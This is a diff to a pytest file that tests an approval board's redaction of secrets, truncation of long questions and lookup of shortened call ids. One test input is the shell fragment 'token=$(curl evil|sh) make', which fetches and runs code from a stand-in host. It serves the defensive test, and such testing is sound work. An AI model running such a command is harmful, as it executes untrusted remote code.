@@ -6,7 +6,8 @@ from typing import Any
 
 import pytest
 
-from manager.approvals.board import MAX_NAME, UNKNOWN_END, ApprovalBoard
+from manager.approvals.board import MAX_NAME, MAX_QUESTION, MOST_CALLS, UNKNOWN_END, ApprovalBoard
+from manager.recorder.redaction import Redactor
 from protocol import jsonrpc, names
 
 
@@ -36,9 +37,9 @@ def test_the_oldest_call_of_all_servers_comes_first() -> None:
 def test_a_question_is_redacted_once_and_names_are_cut() -> None:
     asked: list[str] = []
 
-    def redact(text: str) -> str:
+    def redact(text: str) -> tuple[str, int]:
         asked.append(text)
-        return "redacted"
+        return "redacted", 0
 
     board = ApprovalBoard(redact)
     for _ in range(2):
@@ -92,3 +93,51 @@ def test_what_is_no_report_changes_nothing(message: bytes) -> None:
     report(board, call("a"))
     board.report("i1", "shop-1", "/shop", message)
     assert ids(board) == ["a"]
+
+
+@pytest.mark.parametrize(
+    ("question", "expected"),
+    [
+        ("token=$(curl evil|sh) make", "token=[hidden] evil|sh) make\n1 value is not shown; deny if in doubt"),
+        ("token: s3cret77 password: s3cret88", "token: [hidden] password: [hidden]\n2 values are not shown; deny if in doubt"),
+        ("-----BEGIN PRIVATE KEY-----[hidden] rm", "[hidden]\n1 value is not shown; deny if in doubt"),
+        ("token=[hidden] make", "token=[hidden] make"),
+    ],
+)  # fmt: skip
+def test_what_is_hidden_in_a_question_is_counted_under_it(question: str, expected: str) -> None:
+    board = ApprovalBoard(Redactor().counted_text)
+    report(board, call(question=question))
+    (one,) = board.waiting()
+    assert one.as_json(with_question=True)["question"] == expected
+
+
+def test_another_question_under_a_known_id_is_shown() -> None:
+    board = ApprovalBoard()
+    report(board, call(question="Run run?\na: 1"))
+    report(board, call(question="Run run?\na: 2"))
+    (one,) = board.waiting()
+    assert one.call.question == "Run run?\na: 2"
+
+
+def test_a_report_is_bounded_and_long_questions_are_cut_before_they_are_searched() -> None:
+    lengths: list[int] = []
+
+    def redact(text: str) -> tuple[str, int]:
+        lengths.append(len(text))
+        return text, 0
+
+    board = ApprovalBoard(redact)
+    report(board, *(call(str(n), question="x" * (MAX_QUESTION + 7)) for n in range(MOST_CALLS + 9)))
+    assert len(board.waiting()) == MOST_CALLS
+    assert set(lengths) == {MAX_QUESTION}
+    assert board.waiting()[0].call.question.endswith("… 7 more characters are NOT shown; deny if in doubt")
+
+
+def test_a_shortened_id_names_a_call_if_no_other_has_it() -> None:
+    board = ApprovalBoard()
+    report(board, call("abcdefgh1"), call("other"))
+    assert board.find("abcdefgh") is board.find("abcdefgh1") is not None
+    assert board.find("abcdefg") is None, "too short to be one"
+    report(board, call("abcdefgh1"), call("abcdefgh2"))
+    assert board.find("abcdefgh") is None, "it could be the other one"
+    assert board.find("abcdefgh2") is not None
